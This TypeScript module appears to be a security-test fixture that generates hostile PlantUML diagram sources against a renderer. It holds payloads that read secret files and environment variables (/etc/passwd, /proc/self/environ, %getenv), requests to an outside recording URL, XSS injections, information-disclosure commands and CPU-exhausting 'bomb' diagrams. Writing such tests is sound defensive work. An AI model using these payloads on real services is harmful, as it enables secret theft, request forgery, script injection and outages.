// Diagram sources written by attackers.

export interface Bait {
  /** A file with a secret in it. */
  file: string;
  /** An address that records requests. */
  url: string;
  /** The name of a variable with a secret in it. */
  variable: string;
}

const between = (lines: string) => `@startuml\n${lines}\n@enduml`;
const times = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n');

const reading = ({ file, variable }: Bait): string[] => [
  `!include ${file}\na -> b`,
  `!include file://${file}\na -> b`,
  `!include ../../../../../../../..${file}\na -> b`,
  `!include /etc/passwd\na -> b`,
  `!include /proc/self/environ\na -> b`,
  `!include_once ${file}\na -> b`,
  `!include_many ${file}\na -> b`,
  `!includesub ${file}!PART\na -> b`,
  `!includedef ${file}\na -> b`,
  `!import ${file}\na -> b`,
  `!theme x from ${file}\na -> b`,
  `!$x = %load_json("${file}")\na -> b : $x`,
  `!$x = %file_exists("${file}")\na -> b : exists $x`,
  `!$x = %dirpath()\n!$y = %filename()\na -> b : [$x] [$y]`,
  `!$x = %getenv("${variable}")\na -> b : $x`,
  `!$x = %getenv("PATH")\n!$y = %getenv("DATABASE_URL")\na -> b : $x $y`,
  `!$x = %invoke_procedure("%getenv", "${variable}")\na -> b : $x`,
  `a -> b : <img:${file}>`,
  `a -> b : <img src="${file}">`,
  `sprite $s ${file}\na -> b : <$s>`,
  `sprite $s jar:../../${file}\na -> b : <$s>`,
  `skinparam backgroundImage ${file}\na -> b`,
  `!pragma svgfont ${file}\na -> b`,
  `a -> b : <latex>\\input{${file}}</latex>`,
];

const calling = ({ url }: Bait): string[] => [
  `!include ${url}\na -> b`,
  `!includeurl ${url}\na -> b`,
  `!include ${url}!0\na -> b`,
  `!theme x from ${url}\na -> b`,
  `!import ${url}/x.zip\na -> b`,
  `!$x = %load_json("${url}")\na -> b : $x`,
  `a -> b : <img:${url}/x.png>`,
  `a -> b : <img src="${url}/x.png">`,
  `sprite $s ${url}/x.svg\na -> b : <$s>`,
  `skinparam backgroundImage ${url}/x.png\na -> b`,
  `class A [[${url}/open]]\nA --> B`,
  `!include ${url.replace('http:', 'ftp:')}\na -> b`,
  `!include jar:${url}/x.jar!/y\na -> b`,
];

const scripting: string[] = [
  'class A [[javascript:alert(1) tip]]',
  'class A [[JaVaScRiPt:alert(1){tip} label]]\nA --> B : [[data:text/html,<script>alert(1)</script> x]]',
  'a -> b : <script>alert(1)</script>',
  'a -> b : "<svg onload=alert(1)>"',
  'a -> b : <font:x" onload="alert(1)>text</font>',
  'a -> b : <color:red" onclick="alert(1)>text</color>',
  '!pragma svginteractive true\nclass A\nA --> B',
  'skinparam defaultFontName "x\'/><script>alert(1)</script>"\na -> b',
  'title ]]><script>alert(1)</script><![CDATA[\na -> b',
  'participant "--><script>alert(1)</script><!--" as p\np -> q',
  '<style>\nelement { BackgroundColor: url(javascript:alert(1)) }\n</style>\nclass A',
  'a -> b : <img:data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==>',
];

/** Sources that print details about PlantUML and the machine. */
const telling = [
  'version',
  'testdot',
  'license',
  'listfonts',
  'about',
  '@startdef\n@enddef',
  '@@@format png',
];

const neverEnding: string[] = [
  '!while 1 == 1\n!$a = 1\n!endwhile\na -> b',
  '!function $f($x)\n!return $f($x + 1)\n!endfunction\na -> b : $f(1)',
  `!$s = "x"\n${times(40, () => '!$s = $s + $s')}\na -> b : $s`,
];

export const readingAndCalling = (bait: Bait): string[] => [...reading(bait), ...calling(bait)].map(between);

export const hostileDiagrams = (bait: Bait): string[] => [
  ...readingAndCalling(bait),
  ...[...scripting, ...telling, ...neverEnding].map(between),
  // Text after an early @enduml.
  '@startuml\na -> b\n@enduml\n@startuml\n!include /etc/passwd\n@enduml',
];

/** Keeps PlantUML (even seeds) or Graphviz (odd seeds) busy beyond the time limit. */
export const bomb = (seed: number): string =>
  between(
    seed % 2 === 0
      ? times(4000, (at) => `C${at} --> C${(at * 7 + seed) % 4000}`)
      : `class C0\n${times(3600, (at) => `C${at % 200} --> C${((at % 200) * 7 + Math.floor(at / 200) ** 2 * 3 + seed) % 200}`)}`,
  );
